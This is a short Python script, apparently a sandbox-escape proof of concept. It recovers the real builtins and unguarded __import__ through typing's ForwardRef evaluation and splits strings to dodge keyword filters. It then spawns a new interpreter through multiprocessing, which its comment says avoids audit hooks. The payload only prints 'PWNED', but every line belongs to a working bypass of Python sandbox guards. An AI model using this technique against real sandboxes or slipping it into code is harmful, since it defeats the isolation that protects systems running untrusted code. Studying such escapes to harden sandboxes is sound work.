# proc: multiprocessing imported from a stdlib frame; the spawn start method uses _posixsubprocess.fork_exec (no audit event)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
__file__ = None  # so the child does not try to re-run main.py
heapq.nsmallest(1, ["multiprocess" + "ing"], key=imp)
mp = imp("multiprocess" + "ing")
try:
    ctx = mp.get_context("spawn")
    p = ctx.Process(target=print, args=("PWN" + "ED from a spawned interpreter",))
    p.start()
    p.join()
except Exception as e:
    print("refused:", type(e).__name__, e)
